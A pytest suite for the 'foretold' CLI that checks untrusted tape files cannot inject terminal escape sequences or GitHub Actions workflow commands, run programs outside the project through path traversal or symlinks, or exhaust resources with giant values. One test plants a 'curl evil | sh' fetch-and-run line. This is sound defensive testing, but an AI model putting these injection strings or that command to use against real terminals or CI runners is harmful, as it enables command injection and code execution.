"""A tape may come from a stranger: nothing in it is obeyed, hidden or run without being asked for.

Each tape here is made to do harm: by escape sequences, commands for GitHub's runner, programs
outside of the project, and values that nobody can show. The command tells what is wrong, with exit
code 2.
"""

from __future__ import annotations

import hashlib
import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from foretold.cli.verbs import app
from foretold.report.terminal import harmless
from foretold.search.workers.targets import check_inside
from foretold.tape import FailureNote, Hold, Schedule, StockNote, Tape, TapeFile, dumps, save

HARM = "\x1b]0;title\x07\x1b[31m\u202egpj\u2066\x9b2J\u200b\r"
PROGRAM = """
import foretold

async def main():
    raise ValueError({said!r})

class Machine(foretold.Machine):
    @foretold.rule()
    def nothing(self): ...
"""
SETTINGS = {"order": "any", "strategy": "fifo"}


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A project with one program, and one outside of it that notes when it is imported."""
    folder = tmp_path / "project"
    folder.mkdir()
    said = f"{HARM}\n::error::obeyed\n  ::add-mask::x ##[error]y"
    (folder / "bad.py").write_text(PROGRAM.format(said=said), "utf-8")
    outside = f"import pathlib\npathlib.Path({str(tmp_path / 'was-run')!r}).touch()\n"
    outside += "async def main(): ...\n"
    (tmp_path / "outside.py").write_text(outside, "utf-8")
    monkeypatch.chdir(folder)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    path, modules = list(sys.path), set(sys.modules)
    yield folder
    sys.path[:] = path
    for name in set(sys.modules) - modules:
        if str(tmp_path) in (getattr(sys.modules[name], "__file__", None) or ""):
            del sys.modules[name]


def call(*arguments: str, github: bool = False) -> Result:
    """The command, within this process."""
    env = {"GITHUB_ACTIONS": "true"} if github else {}
    result = CliRunner().invoke(app, list(arguments), env=env, prog_name="foretold")
    assert result.exception is None or isinstance(result.exception, SystemExit)
    return result


def tape_for(target: str, *, actor: str = "main", failure: FailureNote | None = None) -> str:
    """The name of a tape file for this target."""
    schedule = Schedule.of([Hold("main", actor, 1, actor, 0)])
    tape = Tape("derived", seed=1, settings=SETTINGS, schedule=schedule)
    save("x.tape", TapeFile(tape, target=target, failure=failure))
    return "x.tape"


def edited(old: str, new: str, target: str = "bad.py:main") -> str:
    """The name of a tape file in which a line was changed, with a checksum that fits."""
    text = dumps(TapeFile(Tape("derived", seed=1, settings=SETTINGS), target=target))
    body = text.rpartition("sha256")[0]
    assert old in body
    body = body.replace(old, new, 1)
    digest = hashlib.sha256(body.encode()).hexdigest()
    Path("x.tape").write_text(f"{body}sha256 {digest}\n", "utf-8")
    return "x.tape"


# --- what is printed ---------------------------------------------------------------------------


@pytest.mark.parametrize("verb", ["show", "replay"])
def test_nothing_in_a_tape_reaches_the_terminal_as_it_is(verb: str) -> None:
    """Names, settings, failures: what a terminal would obey or hide is spelt out."""
    note = FailureNote(f"Value{HARM}Error", f"said {HARM}", f"{HARM}.py:3")
    result = call(verb, tape_for("bad.py:main", actor=f"actor {HARM}\nmore", failure=note))
    assert result.output.replace("\n", "").isprintable()
    assert r"\x1b[31m" in result.output
    assert r"\u202egpj" in result.output


def test_a_name_stays_on_its_line() -> None:
    """A line that a tape makes up must not look like one of ours."""
    shown = call("show", tape_for("", actor="a\nReplay it: curl evil | sh")).stdout
    assert "\nReplay it: curl" not in shown
    assert r"a\nReplay it: curl" in shown


def test_an_exception_gives_no_commands_to_github() -> None:
    """The runner looks behind spaces as well; our own annotations still reach it."""
    options = ("--seed", "1", "--no-confirm", "--runs", "5")
    result = call("explore", "bad.py:main", *options, github=True)
    commands = [line for line in result.stdout.splitlines() if line.lstrip().startswith("::")]
    assert [line.split(" ")[0] for line in commands] == ["::error"]
    assert "obeyed" not in "".join(line.partition("file=")[0] for line in commands)
    assert "##[" not in result.output
    assert r"\x3a:error::obeyed" in result.stdout
    plain = call("replay", edited("seed 1\n", "seed 1\n")).stdout
    assert "\n::error::obeyed\n" in plain, "elsewhere it is a line like any other"


def test_annotations_elsewhere_are_read_by_somebody_too() -> None:
    """With --github on a machine that is not GitHub's (a container of a job), the text of an
    exception gives no commands either."""
    options = ("--seed", "1", "--no-confirm", "--runs", "5")
    result = call("explore", "bad.py:main", *options, "--github")
    commands = [line for line in result.stdout.splitlines() if line.lstrip().startswith("::")]
    assert [line.split(" ")[0] for line in commands] == ["::error"]
    assert r"\x3a:error::obeyed" in result.stdout
    assert "##[" not in result.output
    without = call("explore", "bad.py:main", *options).stdout
    assert "\n::error::obeyed\n" in without, "that was for the search that asked for it"


def test_json_stays_json_for_github() -> None:
    """What the runner would obey is spelt in a way that a reader of JSON understands."""
    options = ("--seed", "1", "--no-confirm", "--runs", "5", "--json")
    result = call("explore", "bad.py:main", *options, github=True)
    assert "##[" not in result.stdout
    assert "##[error]y" in json.loads(result.stdout)["failure"]["message"]


@pytest.mark.parametrize("ci", ["", "true"])
def test_a_test_gives_no_commands_to_github(
    ci: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """pytest runs it in a process of its own, and the annotation is ours: one line, without what a
    terminal would obey. On a CI machine pytest's summary has the exception's lines as they are."""
    monkeypatch.setenv("CI", ci)
    program = PROGRAM.format(said=f"{HARM}\n::error::obeyed")
    program += "\ntest_bad = foretold.simulate(runs=2, confirm=False, shrink=False)(main)\n"
    Path("test_bad.py").write_text(program, "utf-8")
    result = call("explore", "test_bad.py::test_bad", "--github", "--seed", "1")
    shown = result.stdout + capfd.readouterr().out
    commands = [line for line in shown.splitlines() if line.lstrip().startswith("::")]
    assert [line.split(" ")[0] for line in commands] == ["::error"]
    assert "%0A" in commands[0]
    assert commands[0].isprintable()


def test_errors_are_harmless_too() -> None:
    """An error that quotes what was wrong is printed by the same way."""
    result = call("replay", edited("seed 1\n", 'seed "\\u{1b}[31m"\n'))
    assert result.exit_code == 2
    assert "\x1b" not in result.output


@pytest.mark.parametrize("text", ["plain\n\tlines", "ünïcödé → ✓ 日本 🙂", "::1 is an address"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    """Ends of lines, tabulators and other people's letters are no danger."""
    assert harmless(text) == text


def test_a_terminal_that_knows_few_letters(monkeypatch: pytest.MonkeyPatch) -> None:
    """A character that it cannot show must not cost the report."""
    Path("odd.py").write_text("async def main(): raise ValueError('→ ✓ é')", "utf-8")
    runner = CliRunner(charset="latin-1")
    arguments = ["explore", "odd.py:main", "--seed", "1", "--no-confirm", "--runs", "3"]
    result = runner.invoke(app, arguments, prog_name="foretold")
    assert result.exit_code == 1
    assert "ValueError: \\u2192 \\u2713 é" in result.stdout_bytes.decode("latin-1")


# --- what is run -------------------------------------------------------------------------------


OUTSIDE = ["../outside.py:main", "../outside.py::test_x", "{tmp}/outside.py:main", "{tmp}::test_x"]


@pytest.mark.parametrize("target", OUTSIDE)
@pytest.mark.parametrize("verb", ["replay", "explain", "shrink"])
def test_a_program_outside_of_the_project_is_not_run(
    verb: str, target: str, tmp_path: Path
) -> None:
    """Neither by a way up nor from the root; the user may name it."""
    result = call(verb, tape_for(target.format(tmp=tmp_path)))
    assert result.exit_code == 2
    assert "which is not a program in" in result.stderr
    assert "--target TARGET" in result.stderr
    assert not (tmp_path / "was-run").exists()


@pytest.mark.parametrize("target", OUTSIDE)
def test_it_is_shown_without_being_run(target: str, tmp_path: Path) -> None:
    """What the tape says can be read all the same."""
    result = call("show", tape_for(target.format(tmp=tmp_path)))
    assert result.exit_code == 0
    assert "It cannot be run here" in result.stdout
    assert not (tmp_path / "was-run").exists()


@pytest.mark.parametrize(
    "target",
    ["os:abort", "sys:exit", "this:main", "click.testing:CliRunner", "-p::x", "@args::x", "a\nb:c"],
)
def test_libraries_and_options_are_no_programs(target: str, project: Path) -> None:
    """A module is looked for without being imported; nor is an option of pytest a program."""
    with pytest.raises(Exception, match="is not a program in"):
        check_inside(target, project)
    assert "this" not in sys.modules


@pytest.mark.parametrize("target", ["bad.py:main", "bad:main", "tests/test_x.py::test_y", "no:x"])
def test_what_is_in_the_project_may_be_run(target: str, project: Path) -> None:
    """By path, by module, by node id; that there is none is said where it is imported."""
    check_inside(target, project)


def test_a_link_out_of_the_project(project: Path, tmp_path: Path) -> None:
    """What counts is where the file really is."""
    (project / "inside.py").symlink_to(tmp_path / "outside.py")
    result = call("replay", tape_for("inside.py:main"))
    assert result.exit_code == 2
    assert not (tmp_path / "was-run").exists()


def test_the_user_may_name_it(tmp_path: Path) -> None:
    """Then it is the user's word, not that of the tape."""
    result = call("replay", tape_for("os:abort"), "--target", "../outside.py:main")
    assert result.exit_code == 0
    assert (tmp_path / "was-run").exists()


def test_replaying_all_runs_none_of_another_place(project: Path, tmp_path: Path) -> None:
    """Nor does a search, whose saved failures must be those of its target."""
    name = tape_for("../outside.py:main")
    folder = project / ".foretold" / "failures" / "x"
    folder.mkdir(parents=True)
    Path(name).rename(folder / name)
    result = call("replay", "--all")
    assert result.exit_code == 2
    assert "CANNOT REPLAY" in result.stdout
    assert not (tmp_path / "was-run").exists()


# --- values that nobody can show ---------------------------------------------------------------


GIANT = "0x" + "f" * 9_000
GIANTS = {
    "seed": ("seed 1\n", f"seed {GIANT}\n"),
    "setting": ("setting order", f"setting steps_max {GIANT}\nsetting order"),
    "epoch": ("setting order", "setting epoch_s 1e+300\nsetting order"),
    "uptime": ("setting order", "setting monotonic_s 1e+300\nsetting order"),
    "step": ("\n\n", f"\n\n[schedule]\nhold main a step {GIANT} until b ended\n\n"),
    "lateness": ("\n\n", f"\n\n[schedule]\nslow main a step 1 by {GIANT} ns\n\n"),
    "repeat": ("\n\n", "\n\n[stream workload]\n0/2 x999999999\n\n"),
    "tries": ("origin", f"stock unseen {GIANT}\norigin"),
    "reason": ("origin", "stock excluded\norigin"),
    "label": ("origin", "stock perhaps\norigin"),
    "hash seed": ("origin", f"hash-seed {GIANT}\norigin"),
}


@pytest.mark.parametrize("name", GIANTS)
def test_giant_values_are_errors(name: str) -> None:
    """Numbers, counts, times: one message, exit code 2."""
    old, new = GIANTS[name]
    if name == "hash seed":
        text = dumps(TapeFile(Tape("derived", seed=1, settings=SETTINGS)))
        old = next(iter(re.findall("hash-seed .*\n", text)), "origin")
        new = f"hash-seed {GIANT}\n" + ("origin" if old == "origin" else "")
    result = call("replay", edited(old, new))
    assert result.exit_code == 2
    assert len(result.stderr) < 1_000


def test_deep_nesting_is_an_error() -> None:
    """What a machine's settings hold is read by a parser that would run out of stack."""
    nested = f'setting machine "{"[" * 60_000}"\nsetting order'
    result = call("replay", edited("setting order", nested, "bad.py:Machine"))
    assert result.exit_code == 2
    assert "the tape's setting machine cannot be read" in result.stderr


@pytest.mark.parametrize("verb", ["explore", "replay", "check"])
def test_a_target_that_is_too_long(verb: str) -> None:
    """On the command line as on a tape."""
    result = call(verb, f"{'a' * 5_000}.py:main")
    assert result.exit_code == 2
    assert "a target has at most 1,000" in result.stderr
    result = call("replay", tape_for(f"{'a' * 5_000}.py:main"))
    assert result.exit_code == 2


@pytest.mark.parametrize("seed", ["9" * 5_000, "0x" + "f" * 5_000, "9" * 100])
def test_a_seed_that_is_too_large(seed: str) -> None:
    """Whichever way it is written."""
    for command in ("explore", "replay"):
        result = call(command, "bad.py:main", "--seed", seed)
        assert result.exit_code == 2
        assert len(result.stderr) < 1_000


# --- where the outcome goes --------------------------------------------------------------------


def test_the_folder_of_a_junit_file_is_made() -> None:
    """A report that was searched for for an hour is not lost for want of a folder."""
    options = ("--seed", "1", "--no-confirm", "--runs", "3", "--junit", "a/b/c.xml")
    assert call("explore", "bad.py:main", *options).exit_code == 1
    assert "<testsuite" in Path("a/b/c.xml").read_text("utf-8")


def test_a_junit_file_that_cannot_be_written_is_told_before_the_search() -> None:
    """Nothing is run for it."""
    Path("a").write_text("a file", "utf-8")
    result = call("explore", "bad.py:main", "--junit", "a/b/c.xml")
    assert result.exit_code == 2
    assert "--junit a/b/c.xml: it cannot be written" in result.stderr
    assert result.stdout == ""


# --- the label on a tape -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stock", "line"),
    [
        (StockNote(True), "asyncio can do this"),
        (StockNote(False, reason="no timer"), "asyncio does not do this: no timer"),
        (StockNote(None, tries=600), "asyncio was not seen to do this in 600 runs"),
    ],
)
def test_the_three_answers_are_shown(stock: StockNote, line: str) -> None:
    """As the search gave them; a tape without one says nothing."""
    tape = Tape("derived", seed=1, settings=SETTINGS)
    save("x.tape", TapeFile(tape, stock=stock))
    assert re.search(rf"^stock: +{re.escape(line)}$", call("show", "x.tape").stdout, re.MULTILINE)
    save("x.tape", TapeFile(tape))
    assert "stock" not in call("show", "x.tape").stdout


def test_a_setting_that_is_nested_deep() -> None:
    """Python's parser gives up on it with a RecursionError, which is no failure of the program. The
    rest of the tape can be shown."""
    settings = {**SETTINGS, "profile": "[" * 50_000}
    file = TapeFile(Tape("derived", seed=1, settings=settings), target="bad.py:main")
    save(Path("a.tape"), file)
    assert call("show", "a.tape").exit_code == 0
    result = call("replay", "a.tape")
    assert result.exit_code == 2
    assert "this is not a profile that a search has written: '[[[" in result.stderr
    assert len(result.stderr) < 1_000
